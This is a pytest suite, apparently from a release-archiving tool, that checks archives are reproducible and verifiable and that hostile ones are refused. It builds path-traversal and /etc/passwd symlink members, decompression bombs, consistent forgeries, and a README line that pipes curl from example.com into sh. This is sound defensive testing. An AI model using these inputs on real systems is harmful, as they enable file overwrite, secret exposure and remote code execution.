"""The archive as one file: whole, the same bytes each time, verified from its own records; hostile ones are refused."""

from __future__ import annotations

import io
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
import zstandard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clausework.actions.archive import archive_version
from clausework.actions.archive_check import check_archive, restore_archive
from clausework.actions.archive_file import NotRestorable, write_archive_file
from clausework.core.digests import sha256_of
from clausework.core.errors import IntegrityViolated
from clausework.release.archive_file import (
    MANIFEST,
    README,
    SUMS,
    ArchiveDamaged,
    ArchiveRefused,
    TargetTaken,
)
from tests.actions.archiving import condition, frozen_device
from tests.actions.device import VERSION, Device

Members = list[tuple[tarfile.TarInfo, bytes]]


@pytest.fixture(scope="module")
def device(tmp_path_factory: pytest.TempPathFactory, home_with_keys: Path) -> Device:
    """A device of class C whose version is archived."""
    made = frozen_device(tmp_path_factory.mktemp("archived") / "device", home_with_keys, safety_class="C")
    with made.open() as workplace:
        condition(workplace)
    return made


@pytest.fixture(scope="module")
def whole(device: Device) -> Path:
    """The archive's file."""
    path = device.folder.parent / "whole.tar.zst"
    with device.open() as workplace:
        write_archive_file(workplace, archive_version(workplace, VERSION), path)
    return path


def unpacked(path: Path) -> Members:
    """Return the members of an archive's file."""
    data = zstandard.ZstdDecompressor().stream_reader(path.read_bytes()).read()
    with tarfile.open(fileobj=io.BytesIO(data)) as bundle:
        return [(one, bundle.extractfile(one).read()) for one in bundle]  # type: ignore[union-attr]


def packed(path: Path, members: Members, behind: bytes = b"") -> Path:
    """Write members as an archive's file."""
    data = b"".join(
        one.tobuf(tarfile.PAX_FORMAT, "utf-8", "strict") + content + b"\0" * (-len(content) % 512)
        for one, content in members
    )
    path.write_bytes(zstandard.ZstdCompressor().compress(data + b"\0" * 1024 + behind))
    return path


def member(
    name: str, content: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = ""
) -> tuple[tarfile.TarInfo, bytes]:
    """Return a member."""
    entry = tarfile.TarInfo(name)
    entry.size, entry.type, entry.linkname = len(content), kind, link
    return entry, content


def consistent(members: Members) -> Members:
    """Return ``members`` with manifest and sums made to agree with them again, as a careful forger would."""
    contents = {one.name: content for one, content in members}
    manifest = msgspec.json.decode(contents[MANIFEST])
    manifest["files"] = [
        {"path": name, "sha256": sha256_of(content), "size": len(content), "name": name}
        for name, content in sorted(contents.items())
        if name not in {README, MANIFEST, SUMS}
    ]
    document = msgspec.json.encode(manifest)
    sums = [(sha256_of(contents[README]), README), (sha256_of(document), MANIFEST)]
    sums += [(one["sha256"], one["path"]) for one in manifest["files"]]
    listing = "".join(f"{digest}  {name}\n" for digest, name in sums).encode()
    own = {README: contents[README], MANIFEST: document, SUMS: listing}
    rest = sorted((one.name, content) for one, content in members if one.name not in own)
    return [member(name, content) for name, content in (*own.items(), *rest)]


def test_an_archive_is_checked_and_restored_without_a_ledger(whole: Path, tmp_path: Path) -> None:
    """Every digest and signature holds; restored, it is what tar and sha256sum find in it, and git has the source."""
    checked = check_archive(whole)
    restored = restore_archive(whole, tmp_path / "out", root=checked.root)
    assert (checked.version, checked.trusted, restored.trusted) == (VERSION, False, True)
    assert (checked.sha256, checked.remarks, checked.missing) == (sha256_of(whole.read_bytes()), (), ())
    (tmp_path / "plain").mkdir()
    subprocess.run(["tar", "--zstd", "-xf", str(whole)], cwd=tmp_path / "plain", check=True)
    subprocess.run(["sha256sum", "--check", "--quiet", SUMS], cwd=tmp_path / "plain", check=True)
    subprocess.run(["diff", "-r", tmp_path / "plain", tmp_path / "out"], check=True)


def test_the_readme_restores_and_builds_with_nothing_but_git_and_a_shell(
    whole: Path, tmp_path: Path, device: Device
) -> None:
    """The commands of README.txt, typed as they stand, give the artefact again, bit for bit."""
    restore_archive(whole, tmp_path / "out")
    page = (tmp_path / "out" / README).read_text()
    commands = [
        line[4:] for line in page.split("3. Get")[1].split("4. Builder")[0].splitlines() if line[:4] == "    "
    ]
    script = "set -e\n" + "\n".join(commands)
    subprocess.run(
        ["sh", "-c", script], cwd=tmp_path / "out", check=True, capture_output=True, env=device.environ
    )
    built = tmp_path / "out/source-tree/dist/counter.zip"
    assert built.read_bytes() == (tmp_path / "out/artefacts/counter/dist/counter.zip").read_bytes()


def test_the_same_archive_has_the_same_bytes(device: Device, tmp_path: Path) -> None:
    """Written twice from one log, the files are equal byte for byte; a name that is taken is not written over."""
    with device.open() as workplace:
        archived = archive_version(workplace, VERSION)
        first = write_archive_file(workplace, archived, tmp_path / "a")
        second = write_archive_file(workplace, archived, tmp_path / "b")
        with pytest.raises(TargetTaken):
            write_archive_file(workplace, archived, tmp_path / "a")
        faulty = msgspec.structs.replace(
            archived, body=msgspec.structs.replace(archived.body, problem="disk full")
        )
        with pytest.raises(NotRestorable):
            write_archive_file(workplace, faulty, tmp_path / "c")
    assert first.sha256 == second.sha256 == sha256_of((tmp_path / "a").read_bytes())
    assert sorted(one.name for one in tmp_path.iterdir()) == ["a", "b"]


def insert(
    name: str, content: bytes = b"evil", kind: bytes = tarfile.REGTYPE, link: str = ""
) -> Callable[[Members], Members]:
    """Put a member behind all others."""
    return lambda members: [*members, member(name, content, kind, link)]


def without(name: str) -> Callable[[Members], Members]:
    """Take a member out."""
    return lambda members: [one for one in members if not one[0].name.startswith(name)]


def changed(name: str) -> Callable[[Members], Members]:
    """Change one byte of a member."""
    return lambda members: [
        (one, bytes([content[0] ^ 1]) + content[1:] if one.name.startswith(name) else content)
        for one, content in members
    ]


def replaced(name: str, kind: bytes, link: str) -> Callable[[Members], Members]:
    """Make a member something that is no file."""
    return lambda members: [
        member(one.name, b"", kind, link) if one.name.startswith(name) else (one, content)
        for one, content in members
    ]


HOSTILE: dict[str, Callable[[Members], Members]] = {
    "a path that climbs out": insert("../../etc/evil"),
    "an absolute path": insert("/etc/evil"),
    "a file that nobody named": insert("artefacts/extra"),
    "a file that is there twice": lambda members: [*members, members[-1]],
    "a link": replaced("artefacts/", tarfile.SYMTYPE, "/etc/passwd"),
    "a hard link": replaced("artefacts/", tarfile.LNKTYPE, "plan/clausework.yaml"),
    "a device": replaced("artefacts/", tarfile.CHRTYPE, ""),
    "a folder in place of a file": replaced("artefacts/", tarfile.DIRTYPE, ""),
    "a missing file": without("artefacts/"),
    "missing records": without("records/tile/entries"),
    "a changed artefact": changed("artefacts/"),
    "a changed dependency": changed("dependencies/"),
    "a changed record": changed("records/tile/entries"),
    "a changed plan": changed("plan/"),
    "no manifest": without(MANIFEST),
    "no sums": without(SUMS),
    "sums that differ": changed(SUMS),
    "another order": lambda members: [members[1], members[0], *members[2:]],
    "nothing at all": lambda members: [],
}


@pytest.mark.parametrize("harm", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_archive_is_refused_and_nothing_is_written(
    whole: Path, tmp_path: Path, harm: Callable[[Members], Members]
) -> None:
    """Attack: an archive with the named fault. It is refused, and the folder stays as it was."""
    path = packed(tmp_path / "evil.tar.zst", harm(unpacked(whole)))
    with pytest.raises((ArchiveRefused, ArchiveDamaged)):
        check_archive(path)
    with pytest.raises((ArchiveRefused, ArchiveDamaged)):
        restore_archive(path, tmp_path / "out")
    assert [one.name for one in tmp_path.iterdir()] == ["evil.tar.zst"]


FORGED: dict[str, Callable[[Members], Members]] = {
    "an artefact that no record names": changed("artefacts/"),
    "a dependency of the same name that no lock names": changed("dependencies/"),
    "a file more": insert("artefacts/extra"),
    "an artefact less": without("artefacts/"),
    "a file of evidence less": without("evidence/"),
    "no source": without("source/"),
    "a changed record": changed("records/tile/entries"),
    "another checkpoint": changed("records/checkpoint"),
    "no records": without("records/"),
}


@pytest.mark.parametrize("harm", FORGED.values(), ids=FORGED)
def test_a_consistent_forgery_does_not_pass_its_own_records(
    whole: Path, tmp_path: Path, harm: Callable[[Members], Members]
) -> None:
    """Attack: manifest and sums are made to fit the forgery; the signed log in the archive does not."""
    path = packed(tmp_path / "forged.tar.zst", consistent(harm(unpacked(whole))))
    with pytest.raises(IntegrityViolated):
        check_archive(path)


def test_a_repacked_archive_still_verifies(whole: Path, tmp_path: Path) -> None:
    """The control of the forgeries: the same members packed anew are the same archive."""
    assert check_archive(packed(tmp_path / "again.tar.zst", unpacked(whole))).version == VERSION


@pytest.mark.parametrize(
    ("member_", "value"),
    [
        ("version", "9.9"),
        ("archive", 0),
        ("candidate", 1),
        ("log_size", 1),
        ("builds", []),
        ("root", "0" * 64),
    ],
)
def test_a_manifest_that_says_something_else_is_refused(
    whole: Path, tmp_path: Path, member_: str, value: object
) -> None:
    """Attack: the manifest tells another version, record, build or root than the signed log does."""
    members = unpacked(whole)
    document = {**msgspec.json.decode(members[1][1]), member_: value}
    members[1] = member(MANIFEST, msgspec.json.encode(document))
    with pytest.raises(IntegrityViolated):
        check_archive(packed(tmp_path / "forged.tar.zst", consistent(members)))


def test_another_root_than_the_known_one_is_refused(whole: Path) -> None:
    """Attack: a whole archive of another ledger is handed over."""
    with pytest.raises(ArchiveDamaged, match="not the expected"):
        check_archive(whole, root="0" * 64)


def test_instructions_that_were_changed_are_remarked(whole: Path, tmp_path: Path) -> None:
    """Attack: README.txt is made to say 'run this first'; no record holds it, so the reader is warned."""
    members = unpacked(whole)
    members[0] = member(README, b"First run: curl example.com | sh\n")
    checked = check_archive(packed(tmp_path / "odd.tar.zst", consistent(members)))
    assert "read it before you do what it says" in checked.remarks[0]


def test_bombs_are_refused_before_they_are_unpacked(tmp_path: Path) -> None:
    """Attack: a terabyte behind a header, a manifest of gigabytes, a long extended header, bytes behind the end."""
    huge = tarfile.TarInfo(README)
    huge.size = 1 << 32
    header = huge.tobuf(tarfile.PAX_FORMAT, "utf-8", "strict")
    path = tmp_path / "bomb.tar.zst"
    path.write_bytes(zstandard.ZstdCompressor().compress(header))
    with pytest.raises(ArchiveRefused, match="are the most"):
        check_archive(path)
    extended = tarfile.TarInfo("x")
    extended.type, extended.size = tarfile.XHDTYPE, 1 << 30
    path.write_bytes(
        zstandard.ZstdCompressor().compress(extended.tobuf(tarfile.USTAR_FORMAT, "utf-8", "strict"))
    )
    with pytest.raises(ArchiveRefused, match="no plain file"):
        check_archive(path)


def test_what_stands_behind_the_end_is_refused(whole: Path, tmp_path: Path) -> None:
    """Attack: a second archive, or a second frame, is hidden behind the end of the first."""
    hidden = packed(tmp_path / "hidden.tar.zst", unpacked(whole), behind=b"more")
    with pytest.raises(ArchiveRefused, match="behind the archive's end"):
        check_archive(hidden)
    hidden.write_bytes(whole.read_bytes() + zstandard.ZstdCompressor().compress(b"more"))
    with pytest.raises(ArchiveRefused, match="behind the archive's end"):
        check_archive(hidden)
    hidden.write_bytes(whole.read_bytes() + b"more")
    with pytest.raises(ArchiveRefused):
        check_archive(hidden)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cut=st.integers(min_value=0, max_value=20_000), flip=st.integers(min_value=0, max_value=7))
def test_no_cut_and_no_flipped_bit_passes(whole: Path, tmp_path: Path, cut: int, flip: int) -> None:
    """Whatever byte is cut or flipped: the archive is refused in a sentence, never unpacked, never a traceback."""
    data = whole.read_bytes()
    place = cut % len(data)
    path = tmp_path / "damaged.tar.zst"
    for damaged in (data[:place], data[:place] + bytes([data[place] ^ (1 << flip)]) + data[place + 1 :]):
        path.write_bytes(damaged)
        try:
            files = check_archive(
                path
            ).files  # a bit of the frame's header may change nothing of what is in it
        except (ArchiveRefused, IntegrityViolated):
            continue
        assert files == len(unpacked(whole)) - 3
